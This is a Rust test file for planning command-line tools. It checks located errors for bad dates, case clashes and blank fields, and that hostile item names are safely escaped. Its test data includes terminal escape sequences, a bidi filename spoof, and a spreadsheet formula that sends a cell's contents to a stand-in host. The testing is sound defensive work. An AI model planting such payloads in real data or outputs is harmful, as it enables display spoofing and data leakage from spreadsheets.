//! Issue 20, "no silent wrong numbers": each input a careless user or an
//! attacker might write, exactly as the issue found it, gives the right plan
//! or a located error (never a plan silently different from the data).

use crate::util::{fixture, Sandbox};

/// A plan of two weeks, Oct 7 to Oct 18 2013, with `holidays`, `staff` and
/// `work` lines spliced in (each line without its leading TAB).
fn plan(holidays: &[&str], staff: &[&str], work: &[&str]) -> String {
    let mut s = String::from("=====qplan params v1\n\t2013-10-07\t2013-10-18\tApps\n");
    s.push_str("=====qplan holidays v1\n");
    for h in holidays {
        s.push_str(&format!("\t{h}\n"));
    }
    s.push_str("=====qplan staff v1\n");
    for p in staff {
        s.push_str(&format!("\t{p}\n"));
    }
    s.push_str("=====qplan work v1\n");
    for w in work {
        s.push_str(&format!("\t{w}\n"));
    }
    s.push_str("=====end\n");
    s
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Runs `tool args` on `input`; (exit code, stdout, stderr).
fn run(sb: &Sandbox, tool: &str, args: &[&str], input: &str) -> (i32, String, String) {
    let o = sb
        .cmd(tool)
        .args(args)
        .write_stdin(input.to_owned())
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr(&o),
    )
}

// ---- 1. Short years --------------------------------------------------------

/// `Oct 7, 13` was the year 13 AD: a holiday so written fell outside the
/// plan and everyone counted as working that day. Now it is an error naming
/// line, column and value, in qplan and in `qcondition --check` alike.
#[test]
fn a_short_year_is_a_located_error_in_qplan_and_the_gate() {
    let sb = Sandbox::new();
    for (bad, year) in [
        ("Oct 7, 13", "13"),
        ("Oct 7, 0013", "0013"),
        ("Oct 7, -13", "-13"),
        ("0013-10-07", "0013"),
        ("-2013-10-07", "-2013"),
    ] {
        let input = plan(
            &[bad],
            &["p1\tAna\tM\tT\tApps\t"],
            &["w1\t1\tX\tApps:1\t1\tT"],
        );
        let want = format!(
            "line 4, section 'qplan holidays v1', column 1 (date), value {bad:?}: the year {year:?} is not four digits"
        );
        let (code, out, err) = run(&sb, "qplan", &[], &input);
        assert_eq!((code, out.as_str()), (65, ""), "{bad}: {err}");
        assert!(err.contains(&want), "{bad}: {err}");
        let (code, out, err) = run(&sb, "qcondition", &["--check"], &input);
        assert_eq!((code, out.as_str()), (65, ""), "{bad}: {err}");
        assert!(err.contains(&want), "{bad}: {err}");
    }
    // The same in a vacation: the staff line's vacation column.
    let input = plan(
        &[],
        &["p1\tAna\tM\tT\tApps\tOct 7, 13"],
        &["w1\t1\tX\tApps:1\t1\tT"],
    );
    let (code, _, err) = run(&sb, "qplan", &[], &input);
    assert_eq!(code, 65);
    assert!(
        err.contains("line 5, section 'qplan staff v1', column 6 (vacation), value \"Oct 7, 13\": vacation \"Oct 7, 13\": the year \"13\" is not four digits"),
        "{err}"
    );
}

/// The same short year through `qcondition --map`: the raw cell is named.
#[test]
fn a_short_year_in_a_raw_sheet_is_refused_by_the_map() {
    let sb = Sandbox::new();
    let raw = std::fs::read_to_string(fixture("quarter/raw.txt"))
        .unwrap()
        .replace(
            "\"Dec 25, 2013\",office closed",
            "\"Oct 7, 13\",office closed",
        );
    sb.write("raw.txt", &raw);
    let o = sb
        .cmd("qcondition")
        .arg("--map")
        .arg(fixture("quarter/map.toml"))
        .arg("raw.txt")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(65));
    assert!(o.stdout.is_empty());
    assert!(
        stderr(&o).contains(
            "line 5, section 'raw holidays', column Date, value \"Oct 7, 13\": the year \"13\" is not four digits"
        ),
        "{}",
        stderr(&o)
    );
}

/// qwhatif's change language reads dates with the same parser.
#[test]
fn a_short_year_in_a_change_is_a_located_error() {
    let sb = Sandbox::new();
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"]);
    for (script, col) in [
        ("holiday \"Oct 7, 13\"", 9),
        ("end 13-12-20", 5),
        ("vacation Ana 0013-10-07..2013-10-08", 14),
    ] {
        let (code, out, err) = run(&sb, "qwhatif", &[script], &input);
        assert_eq!((code, out.as_str()), (65, ""), "{script}: {err}");
        assert!(
            err.contains(&format!("changes, line 1, column {col}:"))
                && err.contains("is not four digits"),
            "{script}: {err}"
        );
    }
}

// ---- 3. Exact triage -------------------------------------------------------

/// Triage was bucketed through an f64: `1.0000000000000001` read as 1. It
/// is now the same exact decimal as amounts: just above 1 is 1.5, and more
/// decimals than an amount holds are refused rather than rounded.
#[test]
fn triage_just_above_a_bound_is_the_next_level_and_too_precise_is_refused() {
    let sb = Sandbox::new();
    let input = plan(
        &[],
        &["p1\tAna\tM\tT\tApps\t"],
        &["w1\t1\tX\tApps:1\t1.000000001\tT"],
    );
    let (code, out, err) = run(&sb, "qplan", &[], &input);
    assert_eq!(code, 0, "{err}");
    // track, rank, triage, name…
    assert!(out.contains("\t\tT\t1\t1.5\tX\t"), "{out}");
    let input = plan(
        &[],
        &["p1\tAna\tM\tT\tApps\t"],
        &["w1\t1\tX\tApps:1\t1.0000000000000001\tT"],
    );
    let (code, out, err) = run(&sb, "qplan", &[], &input);
    assert_eq!((code, out.as_str()), (65, ""));
    assert!(
        err.contains("column 5 (triage), value \"1.0000000000000001\": triage: \"1.0000000000000001\" has more than 9 decimals"),
        "{err}"
    );
}

// ---- 4. Messages -----------------------------------------------------------

/// `-v` counted rows the rule book refused as used.
#[test]
fn verbose_counts_refused_rows_as_reported_not_used() {
    let sb = Sandbox::new();
    let raw = std::fs::read_to_string(fixture("quarter/raw.txt"))
        .unwrap()
        .replace(
            "MOB-103,3,Push notifications,Apps:M,1,Alto",
            "MOB-103,3,Push notifications,=SUM(A1:A3),1,Alto",
        );
    sb.write("raw.txt", &raw);
    let o = sb
        .cmd("qcondition")
        .args(["-v", "--map"])
        .arg(fixture("quarter/map.toml"))
        .arg("raw.txt")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(65));
    let err = stderr(&o);
    // 45 work rows: 44 used, the formula's reported.
    assert!(
        err.contains("section 'raw work' for [work]: 45 rows read, 44 used, 1 reported"),
        "{err}"
    );
    // The formula whole, not cut at its first ':'.
    assert!(
        err.contains("line 28, section 'raw work', column Estimate, value \"=SUM(A1:A3)\": \"=SUM(A1:A3)\" is a spreadsheet formula, not a value"),
        "{err}"
    );
}

/// A blank line after `=====end` was told "a stream starts with a '=====' header".
#[test]
fn a_trailing_blank_line_is_named_as_such() {
    let sb = Sandbox::new();
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"]) + "\n";
    for (tool, args) in [("qplan", &[][..]), ("qcondition", &["--check"][..])] {
        let (code, out, err) = run(&sb, tool, args, &input);
        assert_eq!((code, out.as_str()), (65, ""));
        assert!(
            err.contains("line 9: a blank line after '=====end' (the end marker is the last line of a stream; remove what follows it)"),
            "{tool}: {err}"
        );
        assert!(!err.contains("starts with"), "{err}");
    }
}

/// A params line with too few columns also gave "the params section has no
/// line", which it had.
#[test]
fn a_short_params_line_is_one_problem_not_two() {
    let sb = Sandbox::new();
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"])
        .replace("\t2013-10-07\t2013-10-18\tApps\n", "\t2013-10-07\n");
    let (code, _, err) = run(&sb, "qcondition", &["--check"], &input);
    assert_eq!(code, 65);
    assert_eq!(
        err,
        "qcondition: line 2, section 'qplan params v1': 1 column where 2 are expected (start, end)\n\
         qcondition: 1 problem in stdin: nothing written\n"
    );
    // An empty params section still says so.
    let input = input.replace("\t2013-10-07\n", "");
    let (code, _, err) = run(&sb, "qcondition", &["--check"], &input);
    assert_eq!(code, 65);
    assert!(
        err.contains("line 1, section 'qplan params v1': the params section has no line"),
        "{err}"
    );
}

// ---- 2. Blanks, case, dates outside the plan -------------------------------

/// A blank estimate or triage means what the format says (not estimated;
/// triage 3) but is said on stderr with its line; `--strict` refuses it.
#[test]
fn blank_estimate_and_triage_are_warnings_and_strict_refuses_them() {
    let sb = Sandbox::new();
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\t\t\tT"]);
    let (code, out, err) = run(&sb, "qplan", &[], &input);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("\t\tT\t1\t3\tX\t\t\tDNF\tw1\n"), "{out}");
    assert_eq!(
        err,
        "qplan: warning: reading stdin: line 7, section 'qplan work v1', column 4 (estimate), value \"\": no estimate: the item is not estimated, so it is DNF and in no demand\n\
         qplan: warning: reading stdin: line 7, section 'qplan work v1', column 5 (triage), value \"\": no triage: read as 3, the least important level\n"
    );
    let (code, _, err) = run(&sb, "qplan", &["-q"], &input);
    assert_eq!((code, err.as_str()), (0, ""));
    for (tool, args) in [
        ("qplan", &["--strict"][..]),
        ("qcondition", &["--check", "--strict"][..]),
        ("qwhatif", &["--strict", ""][..]),
    ] {
        let (code, out, err) = run(&sb, tool, args, &input);
        assert_eq!((code, out.as_str()), (65, ""), "{tool}: {err}");
        assert!(
            err.contains(
                "line 7, section 'qplan work v1', column 4 (estimate), value \"\": no estimate"
            ),
            "{tool}: {err}"
        );
    }
}

/// `apps` next to `Apps` was a second skill nobody has: the item's demand
/// found no supply. Names that differ only in case are an error naming
/// both, for skills (staff, estimates, scheduling skills) and tracks.
#[test]
fn names_that_differ_only_in_case_are_an_error() {
    let sb = Sandbox::new();
    let cases = [
        (
            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tapps:1\t1\tT"]),
            "line 7, section 'qplan work v1', column 4 (estimate), value \"apps:1\": the skill \"apps\" differs only in case from the skill \"Apps\" (line 5, section 'qplan staff v1')",
        ),
        (
            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tt"]),
            "line 7, section 'qplan work v1', column 6 (track), value \"t\": the track \"t\" differs only in case from the track \"T\" (line 5, section 'qplan staff v1')",
        ),
        (
            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"])
                .replace("\t2013-10-18\tApps\n", "\t2013-10-18\tAPPS\n"),
            "line 2, section 'qplan params v1', column 3 (skills), value \"APPS\": the scheduling skill \"APPS\" differs only in case from the skill \"Apps\" (line 5, section 'qplan staff v1')",
        ),
    ];
    for (input, want) in cases {
        for (tool, args) in [("qplan", &[][..]), ("qcondition", &["--check"][..])] {
            let (code, out, err) = run(&sb, tool, args, &input);
            assert_eq!((code, out.as_str()), (65, ""), "{tool}: {err}");
            assert!(err.contains(want), "{tool}: {err}");
        }
    }
}

/// A holiday or vacation with no day in the plan changes nothing: a
/// warning with its line (a typo in the year is the usual cause).
#[test]
fn holidays_and_vacations_outside_the_plan_are_warnings() {
    let sb = Sandbox::new();
    let input = plan(
        &["2031-10-08", "2013-10-08"],
        &["p1\tAna\tM\tT\tApps\t2012-10-07..2012-10-11:2013-10-09"],
        &["w1\t1\tX\tApps:1\t1\tT"],
    );
    let (code, out, err) = run(&sb, "qplan", &[], &input);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        err,
        "qplan: warning: reading stdin: line 4, section 'qplan holidays v1', column 1 (date), value \"2031-10-08\": the holiday 2031-10-08 is outside the plan (2013-10-07 to 2013-10-18): it changes nothing\n\
         qplan: warning: reading stdin: line 7, section 'qplan staff v1', column 6 (vacation), value \"2012-10-07..2012-10-11:2013-10-09\": the vacation 2012-10-07..2012-10-11 of Ana has no day in the plan (2013-10-07 to 2013-10-18): it changes nothing\n"
    );
    // The holiday of Oct 8 and the vacation day of Oct 9 still count: 5
    // days of work from Oct 7 on Ana's 8 workdays end on Oct 15.
    assert!(out.contains("\tX\tApps:1\t\t2013-10-15\tw1\n"), "{out}");
    let (code, out, err) = run(&sb, "qplan", &["--strict"], &input);
    assert_eq!((code, out.as_str()), (65, ""));
    assert!(
        err.contains("the holiday 2031-10-08 is outside the plan"),
        "{err}"
    );

    // In a change script: the change's own place.
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"]);
    let (code, _, err) = run(
        &sb,
        "qwhatif",
        &["holiday 2031-10-08; vacation p1 2013-10-09"],
        &input,
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        err,
        "qwhatif: warning: changes, line 1, column 9: holiday 2031-10-08 has no day in the plan (2013-10-07 to 2013-10-18): it changes nothing\n"
    );
    // A holiday after the base plan, inside the end the script sets: no warning.
    let (code, _, err) = run(
        &sb,
        "qwhatif",
        &["end 2014-12-31; holiday 2014-10-08"],
        &input,
    );
    assert_eq!((code, err.as_str()), (0, ""));
    let (code, out, _) = run(&sb, "qwhatif", &["--strict", "holiday 2031-10-08"], &input);
    assert_eq!((code, out.as_str()), (65, ""));
}

// ---- 5. Names that act on terminals and spreadsheets ------------------------

const EVIL_TITLE: &str = "\u{1b}]0;pwned\u{7}";
const EVIL_CLEAR: &str = "\u{1b}[2J";
const EVIL_BIDI: &str = "abc\u{202e}fdp.exe";
const EVIL_FORMULA: &str = "=HYPERLINK(\"http://x\"&A1)";

fn evil_plan() -> String {
    plan(
        &[],
        &["p1\tAna\tM\tT\tApps\t"],
        &[
            &format!("w1\t1\t{EVIL_TITLE}\tApps:1\t1\tT"),
            &format!("w2\t2\t{EVIL_FORMULA}\tApps:1\t1\tT"),
            &format!("w3\t3\t{EVIL_BIDI}\tApps:0.2\t1\tT"),
            &format!("w4\t4\t{EVIL_CLEAR}\u{85}\u{7f}\tApps:0.2\t1\tT"),
        ],
    )
}

/// No text output sends a control character or a bidi override from the
/// data: each is shown as an escape.
#[test]
fn text_outputs_show_control_characters_as_escapes() {
    let sb = Sandbox::new();
    let input = evil_plan();
    let runs: [(&str, &[&str]); 4] = [
        ("qplan", &["-f", "text"]),
        ("qwhatif", &["--format", "text", "drop w2"]),
        ("qwhatif", &["explain", "w4"]),
        ("qplan", &["-f", "text", "--track", "T"]),
    ];
    for (tool, args) in runs {
        let (code, out, err) = run(&sb, tool, args, &input);
        assert_eq!(code, 0, "{tool} {args:?}: {err}");
        let hidden: Vec<char> = out
            .chars()
            .filter(|&c| {
                (c < ' ' && c != '\t' && c != '\n')
                    || ('\u{7f}'..='\u{9f}').contains(&c)
                    || ('\u{202a}'..='\u{202e}').contains(&c)
            })
            .collect();
        assert!(hidden.is_empty(), "{tool} {args:?}: {hidden:?} in\n{out}");
        if tool == "qplan" {
            assert!(out.contains("\\x1b]0;pwned\\x07"), "{out}");
            assert!(out.contains("abc\\u{202e}fdp.exe"), "{out}");
            assert!(out.contains("\\x1b[2J\\u{85}\\x7f"), "{out}");
        }
    }
    // An error message quoting such a name is escaped too.
    let (code, _, err) = run(
        &sb,
        "qwhatif",
        &["explain", EVIL_CLEAR],
        &input.replace("\tw4\t", "\tw4x\t"),
    );
    assert!(code == 65 || code == 0, "{err}");
    assert!(!err.contains('\u{1b}'), "{err:?}");
}

/// JSON and the stream keep names exactly; CSV neutralises formulas unless
/// --csv-raw.
#[test]
fn json_and_streams_stay_exact_and_csv_neutralises_formulas() {
    let sb = Sandbox::new();
    let input = evil_plan();
    let (_, json, _) = run(&sb, "qplan", &["-f", "json"], &input);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    let names: Vec<&str> = v["tracks"][0]["work"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["name"].as_str().unwrap())
        .collect();
    let clear = format!("{EVIL_CLEAR}\u{85}\u{7f}");
    assert_eq!(names, [EVIL_TITLE, EVIL_FORMULA, EVIL_BIDI, clear.as_str()]);
    let (_, stream, _) = run(&sb, "qplan", &[], &input);
    assert!(stream.contains(&format!("\t{EVIL_TITLE}\t")));

    let (code, csv, _) = run(&sb, "qplan", &["-f", "csv"], &input);
    assert_eq!(code, 0);
    assert!(
        csv.contains("All,T,2,1,w2,\"'=HYPERLINK(\"\"http://x\"\"&A1)\",Apps:1,,"),
        "{csv}"
    );
    let (_, raw, _) = run(&sb, "qplan", &["-f", "csv", "--csv-raw"], &input);
    assert!(
        raw.contains("All,T,2,1,w2,\"=HYPERLINK(\"\"http://x\"\"&A1)\",Apps:1,,"),
        "{raw}"
    );
    // Read back with a CSV reader, the raw cell is the name exactly.
    let mut r = csv::Reader::from_reader(raw.as_bytes());
    let cell: Vec<String> = r
        .records()
        .map(|rec| rec.unwrap()[5].to_owned())
        .take(4)
        .collect();
    assert_eq!(cell, [EVIL_TITLE, EVIL_FORMULA, EVIL_BIDI, clear.as_str()]);

    // qwhatif's diff as CSV: the same rule, the same flag.
    let (_, diff, _) = run(&sb, "qwhatif", &["--format", "csv", "drop w1"], &input);
    assert!(diff.contains("\"'=HYPERLINK("), "{diff}");
    let (_, diff, _) = run(
        &sb,
        "qwhatif",
        &["--format", "csv", "--csv-raw", "drop w1"],
        &input,
    );
    assert!(diff.contains(",\"=HYPERLINK("), "{diff}");
}

/// Warnings are many when a sheet has no triage at all: the first 20 are
/// printed and then how many more; -v prints them (up to a thousand).
#[test]
fn many_warnings_are_counted_after_the_first_twenty() {
    let sb = Sandbox::new();
    let work: Vec<String> = (0..25)
        .map(|i| format!("w{i}\t{i}\tX{i}\tApps:0.2\t\tT"))
        .collect();
    let work: Vec<&str> = work.iter().map(String::as_str).collect();
    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &work);
    let (code, _, err) = run(&sb, "qplan", &[], &input);
    assert_eq!(code, 0);
    let lines: Vec<&str> = err.lines().collect();
    assert_eq!(lines.len(), 21, "{err}");
    assert!(
        lines[19].contains("line 26, section 'qplan work v1', column 5 (triage)"),
        "{err}"
    );
    assert_eq!(
        lines[20],
        "qplan: warning: reading stdin: 5 more warnings (-v shows more; --strict makes them errors)"
    );
    let (_, _, err) = run(&sb, "qplan", &["-v"], &input);
    assert_eq!(
        err.lines().filter(|l| l.contains("no triage")).count(),
        25,
        "{err}"
    );
}

/// `qwhatif list` shows a change naming a hostile item with its escapes.
#[test]
fn scenario_list_shows_control_characters_as_escapes() {
    let sb = Sandbox::new();
    let input = evil_plan();
    sb.write("plan.txt", &input);
    let store = sb.path().join("store");
    let ok = sb
        .cmd("qsnap")
        .arg("--store")
        .arg(&store)
        .args(["put", "qplan", "conditioned", "plan.txt"])
        .output()
        .unwrap();
    assert!(ok.status.success(), "{}", stderr(&ok));
    let saved = sb
        .cmd("qwhatif")
        .args(["save", "-q", "evil"])
        // The change language refuses C0/C1 controls in a quoted name; a
        // bidi override is a name it takes.
        .arg(format!("drop \"{EVIL_BIDI}\""))
        .arg("--store")
        .arg(&store)
        .output()
        .unwrap();
    assert!(saved.status.success(), "{}", stderr(&saved));
    let list = sb
        .cmd("qwhatif")
        .args(["list", "--store"])
        .arg(&store)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&list.stdout);
    assert!(list.status.success());
    assert!(!out.contains('\u{202e}'), "{out:?}");
    assert!(out.contains("drop abc\\u{202e}fdp.exe"), "{out}");
}
